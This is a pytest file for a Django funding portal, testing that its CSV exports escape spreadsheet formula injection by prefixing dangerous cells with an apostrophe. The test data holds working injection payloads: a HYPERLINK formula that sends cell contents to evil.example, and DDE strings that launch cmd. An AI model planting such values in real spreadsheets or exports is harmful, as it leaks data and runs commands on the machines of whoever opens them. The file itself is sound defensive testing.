"""Every CSV the portal writes keeps a formula as text (core.spreadsheet, the one CSV writer).

An official types proposal titles that a spreadsheet would run — starting with =, +, -, @,
and with a tab or a carriage return before one of them — through the real "new proposal"
form. The proposals export, the audit trail's CSV and the dashboard figure CSV are read
back: each planted title is there, prefixed with an apostrophe, and no cell of any of
them starts with a formula character.
"""

import csv
import io

import pytest
from django.urls import reverse

from core.spreadsheet import FORMULA_STARTS, csv_text, neutralise
from funding import services as funding_services
from programmes.models import CallStatus, CooperationType
from proposals.models import Proposal
from tests.factories import EOK
from tests.funding.conftest import plan, select
from tests.login import log_in
from tests.proposals.conftest import _english, _media_root  # noqa: F401  (fixtures)

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"Open")'
PLANTED = {  # typed → as stored (the form strips leading whitespace; what is left still starts a formula)
    HYPERLINK: HYPERLINK,
    "+1+cmd|' /C calc'!A0": "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0": "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0": "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1 탭": "=1+1 탭",
    "\r=2+2 캐리지": "=2+2 캐리지",
}


@pytest.fixture
def web(client, settings):
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    return client


@pytest.fixture
def planted(web, call, official, ministry, ministry2, django_capture_on_commit_callbacks):
    """One leap proposal per planted title, created through the form; the first one funded and
    its call's results announced (so it is on the official's dashboard figures)."""
    log_in(web, official)
    for typed in PLANTED:
        response = web.post(reverse("proposals:create"), {
            "call": call.pk, "cooperation_type": CooperationType.LEAP, "title_ko": typed, "title_en": typed})
        assert response.status_code == 302, response.content.decode()[:500]
    proposals = list(Proposal.objects.order_by("pk"))
    assert [p.title_ko for p in proposals] == list(PLANTED.values())
    funded = select(proposals[0])
    years, obligations = plan(funded, local=4 * EOK)  # one region: its local funds ≥ 20% alone
    decision = funding_services.funding_prepare(actor=ministry, proposal=funded, years=years,
                                                obligations=obligations)
    with django_capture_on_commit_callbacks(execute=False):  # the letter is not needed here
        funding_services.funding_approve(actor=ministry2, decision=decision)
    call.status = CallStatus.ANNOUNCED
    call.save()
    return proposals


def read_csv(web, user, url, **params) -> list[list[str]]:
    log_in(web, user)
    response = web.get(url, params)
    assert response.status_code == 200
    data = b"".join(response.streaming_content) if response.streaming else response.content
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def assert_no_live_formula(rows):
    live = [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    assert live == []


def escaped() -> list[str]:
    return sorted("'" + stored for stored in PLANTED.values())


def test_the_proposals_export_keeps_every_planted_title_as_text(web, planted, official):
    rows = read_csv(web, official, reverse("reports:export", kwargs={"dataset": "proposals", "fmt": "csv"}))
    titles = [r[rows[0].index("Title (Korean)")] for r in rows[1:]]
    assert sorted(titles) == escaped()
    assert_no_live_formula(rows)


def test_the_audit_trail_csv_keeps_every_planted_title_as_text(web, planted, ministry):
    rows = read_csv(web, ministry, reverse("audit:export_csv"), q="")
    header = rows[0]
    titles = {r[header.index("After")] for r in rows[1:] if r[header.index("Field")] in ("title (Korean)",
                                                                                          "Title (Korean)")}
    assert sorted(titles) == escaped()
    assert_no_live_formula(rows)


def test_the_dashboard_figure_csv_keeps_a_planted_project_title_as_text(web, planted, official):
    rows = read_csv(web, official, reverse("dashboard_figure_csv", args=["projects"]))
    assert [r[0] for r in rows[1:]] == ["'" + HYPERLINK]
    assert_no_live_formula(rows)


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_the_writer_prefixes_every_formula_start_and_leaves_numbers_alone(start):
    text = csv_text([["제목", "금액"], [f"{start}1+1", -5]])
    assert text.startswith("\ufeff")
    assert list(csv.reader(io.StringIO(text[1:], newline=""))) == [["제목", "금액"], [f"'{start}1+1", "-5"]]
    assert [neutralise(None), neutralise(0), neutralise("평범한 제목")] == ["", "0", "평범한 제목"]
